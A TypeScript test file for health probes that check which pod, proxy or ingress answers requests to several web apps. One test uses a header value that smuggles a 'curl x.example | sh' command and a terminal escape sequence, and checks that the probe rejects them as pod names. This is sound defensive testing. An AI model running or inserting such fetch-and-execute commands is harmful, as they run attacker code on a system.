import { expect, test } from 'vitest';
import { forEachApp } from '../../apps/environment/apps.ts';
import { Unreachable } from '../../fleet/engines/live/unreachable.ts';
import { PodMarks } from './rules/in-front.ts';
import { ask, askEachSecond, askOnce, type ProbeAnswer, type ProbeClient, type ProbeName } from './probes.ts';

const urls = { ...forEachApp(({ name }) => `https://${name}.example`), auth: 'https://auth.example' };
function clientOf(get: (role: string, path: string) => object | Promise<object>): ProbeClient {
  const marks = new PodMarks();
  return {
    target: { urls },
    get: async (role, path) => {
      const right = { url: `https://${role}.example${path}`, status: 200, headers: {}, body: '{}' };
      return marks.demand({ ...right, ...(await get(role, path)) }, () => false, path.startsWith('/api/'));
    },
  };
}

const answerTo = (probe: ProbeName, answer: () => object | Promise<object>) => ask(clientOf(answer), 'operator', probe);
const unreachable = (code: string) =>
  new Unreachable('https://operator.example/', { code, message: code }, { timeout: 1 });

/** A balancer that gives requests to its pods in turn. */
function balancer(pods: number): ProbeClient {
  const sent = new Map<string, number>();
  return clientOf((role) => {
    const number = sent.get(role) ?? 0;
    sent.set(role, number + 1);
    return { headers: { 'x-served-by': `pod-${number % pods}` } };
  });
}

test.each([
  { pods: 3, sessions: forEachApp(() => 'cookie=1') },
  { pods: 4, sessions: {} },
])('every probe reaches each of $pods pods in as many rounds (sessions: $sessions)', async ({ pods, sessions }) => {
  const client = balancer(pods);
  const answers: ProbeAnswer[] = [];
  for (let round = 0; round < pods; round += 1) answers.push(...(await askOnce(client, sessions)));
  const ofApps = answers.filter(({ of }) => of !== 'auth');
  for (const [probe, its] of Map.groupBy(ofApps, (answer) => answer.probe))
    expect({ probe, pods: new Set(its.map(({ pod }) => pod)).size }).toEqual({ probe, pods });
});

test('rounds go on while a host hangs, and an abort does not wait for it', async () => {
  const abort = new AbortController();
  const hanging = clientOf((role) => (role === 'auth' ? new Promise(() => {}) : {}));
  let sent = 0;
  const counting: ProbeClient = { ...hanging, get: (...args) => ((sent += 1), hanging.get(...args)) };
  const asking = askEachSecond((at) => askOnce(counting, {}, at), { seconds: undefined, signal: abort.signal });
  const first = sent;
  await expect.poll(() => sent, { timeout: 10_000 }).toBeGreaterThan(first);
  abort.abort();
  expect(await asking).toEqual([]);
});

test('the loop ends when a round says so, and with a fault of the harness', async () => {
  const { signal } = new AbortController();
  const answering = clientOf(() => ({}));
  const answers = await askEachSecond((at) => askOnce(answering, {}, at), {
    seconds: undefined,
    signal,
    onRound: () => true,
  });
  expect(answers.length).toBeGreaterThan(0);
  const broken = clientOf(() => Promise.reject(new TypeError('bug')));
  await expect(askEachSecond((at) => askOnce(broken, {}, at), { seconds: undefined, signal })).rejects.toThrow('bug');
});

test('what a pod says of itself in its report counts when a proxy removes the headers', async () => {
  const report = () => ({ body: '{"pod":"operator-a","revision":"2"}' });
  expect(await answerTo('ready', report)).toMatchObject({ pod: 'operator-a', revision: '2' });
  expect(await answerTo('no session', report)).toMatchObject({ pod: '', revision: '' });
});

test.each(['null', '[1]', '<html></html>'])('a report that is no object is a fact: %s', async (body) => {
  const answer = await answerTo('ready', () => ({ body }));
  expect(answer).toMatchObject({ pod: '', revision: '', facts: { body: 'no report' } });
});

test.each([
  [
    'no session',
    { status: 503, body: 'no available server' },
    /^operator\.example is answered with 503 by a pod, or by what is before its pods: .*whether a pod is ready/,
  ],
  ['ready', { status: 502, body: '<html></html>' }, /^operator\.example is answered with 502/],
  ['no session', { status: 429, headers: { 'retry-after': '30' } }, /api\/me; Retry-After: 30\): a limit of requests/],
  ['sign-in', { status: 403, body: '<h1>Forbidden</h1>' }, /answered with 403 .*firewall/],
  ['session', { status: 451 }, /answered with 451/],
  ['ready', { body: '<h1>Welcome</h1>' }, /^operator\.example does not serve operator/],
  [
    'ready',
    { status: 302, headers: { location: 'https://team.example/access?to=1' } },
    /\(302\), which redirects to https:\/\/team\.example\/access: look which ingress/,
  ],
  ['ready', { body: '{"status":"up"}' }, /^operator\.example does not serve operator/],
] as const)('to "%s", %j is not from a pod', async (probe, answer, problem) => {
  expect(await answerTo(probe, () => answer)).toMatchObject({
    isOutside: true,
    problem: expect.stringMatching(problem),
  });
});

test.each([
  ['whose header a proxy removes', { body: '{"ok":false}' }],
  ['without a report', { headers: { 'x-served-by': 'operator-a' } }],
])('a 503 of a pod %s is from that pod', async (_what, answer) => {
  expect(await answerTo('ready', () => ({ status: 503, ...answer }))).toMatchObject({ isOutside: false });
});

test.each(['operator-a; curl x.example | sh', 'operator-a\u001b[2J'])(
  'what is no name of a pod (%j) does not become one, because names are printed in commands',
  async (name) => {
    const headers = { 'x-served-by': name, 'x-revision': name };
    expect(await answerTo('ready', () => ({ headers }))).toMatchObject({ pod: '', revision: '' });
  },
);

test('a pod of another app is a problem of the way there', async () => {
  const answer = await answerTo('ready', () => ({ headers: { 'x-served-by': 'portal-1-a' }, body: '{"ok":true}' }));
  expect(answer).toMatchObject({ isOutside: true, problem: expect.stringContaining('answered by a pod of portal') });
});

test.each([401, 404, 418, 429, 500])(
  'where pods name themselves, a %i without a name is of what is before them',
  async (status) => {
    const client = clientOf((_role, path) =>
      path === '/api/me' ? { status } : { headers: { 'x-served-by': 'operator-a' } },
    );
    await ask(client, 'operator', 'ready');
    expect(await ask(client, 'operator', 'session')).toMatchObject({
      status,
      isOutside: true,
      problem: expect.stringContaining(`answered with ${status} by what is before its pods, which name themselves`),
    });
  },
);

test('a wrong status is a problem', async () => {
  const { problem } = await answerTo('no session', () => ({}));
  expect(problem).toBe('operator answers 200 to GET /api/me without a session, not 401.');
});

test.each([
  ['ENOTFOUND', true],
  ['EAI_AGAIN', false],
])('a host without an answer is a problem, and whether %s is final for now: %s', async (code, isFinal) => {
  const error = unreachable(code);
  const answer = await answerTo('ready', () => Promise.reject(error));
  expect(answer).toMatchObject({ status: 0, problem: error.message });
  expect(answer.isFinal).toBe(isFinal);
});

test('a sign-in that leads to another host is a problem', async () => {
  const location = 'https://login.example/application/o/authorize/?client_id=operator';
  const answer = await answerTo('sign-in', () => ({ status: 302, headers: { location, 'x-served-by': 'operator-a' } }));
  expect(answer.problem).toContain(
    'Signing in to operator leads to https://login.example/application/o/authorize/, not to https://auth.example/',
  );
  expect(answer.facts).toEqual({ leadsTo: 'https://login.example' });
});

test('a discovery document about another host is a wrong answer', async () => {
  const body = JSON.stringify({ issuer: 'https://inside.example/application/o/operator/' });
  const { problem } = await ask(
    clientOf(() => ({ body })),
    'auth',
    'discovery',
  );
  expect(problem).toContain('issuer of operator is "https://inside.example');
});
